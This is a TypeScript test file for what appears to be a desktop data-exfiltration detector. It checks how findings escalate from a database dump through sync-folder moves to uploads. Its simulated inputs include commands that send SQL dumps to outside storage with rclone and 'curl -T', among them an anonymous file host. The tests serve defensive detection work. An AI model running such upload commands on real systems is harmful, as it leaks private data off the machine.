import { describe, expect, it } from 'vitest';
import { Desk, OMAR } from '../../support/desk.ts';
import { MAC_PROGRAMS } from '../../support/mac-programs.ts';
import { PROGRAMS } from '../../support/story.ts';

describe('a finding is emitted', () => {
  it('once for each stage, first created and then updated under one id', () => {
    const desk = new Desk();
    desk.dump('Desktop/a.sql');
    desk.reach(desk.background(MAC_PROGRAMS.script), 'api.box.com');
    desk.type(PROGRAMS.rclone, 'rclone copy Desktop/a.sql box:x');
    const emissions = desk.emissions();
    expect(emissions.map(({ stage, activity }) => [stage, activity])).toEqual([
      ['tool', 'create'],
      ['export', 'update'],
      ['suspected-upload', 'update'],
      ['upload', 'update'],
    ]);
    expect(new Set(emissions.map(({ finding }) => finding)).size).toBe(1);
  });

  it('for a tool that was running before, apart from the file by which it is found', () => {
    const desk = new Desk({ start: '2026-03-10T08:15:00Z' });
    desk.story.write(
      desk.story.running(MAC_PROGRAMS.tablePlus, desk.user),
      desk.at('Documents/a.csv'),
    );
    expect(desk.emissions().map(({ stage, time }) => [stage, time.slice(0, 16)])).toEqual([
      ['tool', '2026-03-10T07:15'],
      ['export', '2026-03-10T08:15'],
    ]);
  });

  it('at the time of its last step', () => {
    const desk = new Desk({ start: '2026-03-10T08:15:00Z' });
    desk.dump('Desktop/a.sql');
    desk.story.wait(3600);
    desk.mv('Desktop/a.sql', 'Dropbox/a.sql');
    expect(desk.emissions().map(({ time }) => time.slice(0, 16))).toEqual([
      '2026-03-10T08:15',
      '2026-03-10T08:15',
      '2026-03-10T09:15',
    ]);
  });

  it('again when stronger evidence of the same stage comes', () => {
    const desk = new Desk();
    const dropbox = desk.background(PROGRAMS.dropbox);
    desk.dump('Desktop/a.sql');
    desk.story.open(dropbox, desk.at('Desktop/a.sql'));
    desk.mv('Desktop/a.sql', 'Library/CloudStorage/OneDrive-Acme/a.sql');
    desk.type(PROGRAMS.rclone, 'rclone copy Library/CloudStorage/OneDrive-Acme/a.sql box:x');
    expect(
      desk
        .emissions()
        .slice(2)
        .map(({ evidence, service }) => [evidence, service]),
    ).toEqual([
      ['opened-by-sync-client', 'dropbox'],
      ['landed-in-sync-folder', 'onedrive'],
      ['named-in-upload-command', 'box'],
    ]);
  });

  it('again when the severity rises by the same evidence', () => {
    const desk = new Desk();
    desk.dump('Desktop/a.sql');
    desk.type(PROGRAMS.curl, 'curl -T Desktop/a.sql https://box.com/x');
    desk.type(PROGRAMS.curl, 'curl -T Desktop/a.sql https://gofile.io/x');
    expect(desk.emissions().slice(2)).toMatchObject([
      { severity: 'high', service: 'box' },
      { severity: 'critical', service: 'gofile', destination: 'gofile.io' },
    ]);
  });
});

describe('nothing is emitted', () => {
  it('for a further path; the next emission carries it', () => {
    const desk = new Desk();
    const tool = desk.type(PROGRAMS.psql, 'psql');
    desk.story.write(tool, desk.at('Desktop/a.csv')).wait(60).write(tool, desk.at('Desktop/b.csv'));
    desk.story.write(
      desk.type(PROGRAMS.cp, 'cp Desktop/b.csv Desktop/c.csv'),
      desk.at('Desktop/c.csv'),
    );
    desk.mv('Desktop/a.csv', 'Dropbox/a.csv');
    expect(desk.emissions().map(({ stage, files }) => [stage, files.length])).toEqual([
      ['tool', 0],
      ['export', 1],
      ['upload', 4],
    ]);
  });

  it('for a file that is written twice and then seen by the watcher', () => {
    const desk = new Desk();
    const tool = desk.dump('Downloads/a.sql');
    desk.story
      .close(tool, desk.at('Downloads/a.sql'))
      .wait(1)
      .watched('add', desk.at('Downloads/a.sql'), 503);
    desk.story.wait(3).watched('change', desk.at('Downloads/a.sql'), 503).wait(3).noise(1);
    expect(desk.stages()).toEqual(['tool', 'export']);
  });

  it('for a file by time that the watcher reports too', () => {
    const desk = new Desk();
    desk.save('Downloads/a.xlsx');
    desk.story.wait(1).watched('add', desk.at('Downloads/a.xlsx'), 503).wait(3).noise(1);
    expect(desk.stages()).toEqual(['tool', 'export']);
  });

  it.each<{ title: string; tell: (desk: Desk) => unknown }>([
    {
      title: 'a flow',
      tell: (desk) => desk.reach(desk.background(MAC_PROGRAMS.script), 'gofile.io'),
    },
    {
      title: 'the sync client opening it',
      tell: (desk) => desk.story.open(desk.background(PROGRAMS.dropbox), desk.at('Desktop/a.sql')),
    },
    {
      title: 'a copy in a sync folder',
      tell: (desk) =>
        desk.story.clone(
          desk.background(PROGRAMS.finder),
          desk.at('Desktop/a.sql'),
          desk.at('Dropbox/a.sql'),
        ),
    },
    {
      title: 'the same command again',
      tell: (desk) => desk.type(PROGRAMS.rclone, 'rclone copy Desktop/a.sql box:x'),
    },
    {
      title: 'an equal command to another storage',
      tell: (desk) => desk.type(PROGRAMS.rclone, 'rclone copy Desktop/a.sql mega:x'),
    },
  ])('for weaker or equal evidence after a command: $title', ({ tell }) => {
    const desk = new Desk();
    desk.dump('Desktop/a.sql');
    desk.type(PROGRAMS.rclone, 'rclone copy Desktop/a.sql box:x');
    desk.story.wait(10);
    tell(desk);
    expect(desk.stages()).toEqual(['tool', 'export', 'upload']);
    expect(desk.findings()).toMatchObject([
      {
        evidence: 'named-in-upload-command',
        service: 'box',
        destination: 'box:x',
        severity: 'high',
      },
    ]);
  });

  it('for a storage after an anonymous service by the same evidence', () => {
    const desk = new Desk();
    desk.dump('Desktop/a.sql');
    desk.type(PROGRAMS.curl, 'curl -T Desktop/a.sql https://gofile.io/x');
    desk.type(PROGRAMS.curl, 'curl -T Desktop/a.sql https://box.com/x');
    expect(desk.emissions()).toHaveLength(3);
    expect(desk.findings()).toMatchObject([{ service: 'gofile', severity: 'critical' }]);
  });

  it('for events of other users and programs', () => {
    const desk = new Desk();
    desk.story.noise(60, OMAR).noise(60);
    desk.story.write(desk.story.shell(OMAR), '/Users/omar/Downloads/a.csv');
    expect(desk.emissions()).toEqual([]);
  });
});

it('stronger evidence of a lower row changes neither stage nor severity', () => {
  const desk = new Desk();
  const psql = desk.type(PROGRAMS.psql, 'psql');
  desk.story.write(psql, desk.at('Desktop/own.csv'));
  desk.story.write(desk.background(MAC_PROGRAMS.script), desk.at('Documents/other.csv'));
  desk.mv('Desktop/own.csv', 'Dropbox/own.csv');
  desk.type(PROGRAMS.rclone, 'rclone copy Documents/other.csv box:x');
  expect(desk.findings()).toMatchObject([
    { link: 'lineage', severity: 'high', evidence: 'landed-in-sync-folder', service: 'dropbox' },
  ]);
});

it('stage and severity never go back, whatever follows', () => {
  const desk = new Desk();
  const tool = desk.dump('Desktop/a.sql');
  desk.type(PROGRAMS.curl, 'curl -T Desktop/a.sql https://gofile.io/x');
  desk.story.lose(5).wait(5).write(tool, desk.at('Desktop/b.sql'));
  desk.reach(desk.background(MAC_PROGRAMS.script), 'api.box.com');
  desk.mv('Desktop/b.sql', 'Dropbox/b.sql');
  expect(desk.emissions().at(-1)).toMatchObject({ stage: 'upload', severity: 'critical' });
});
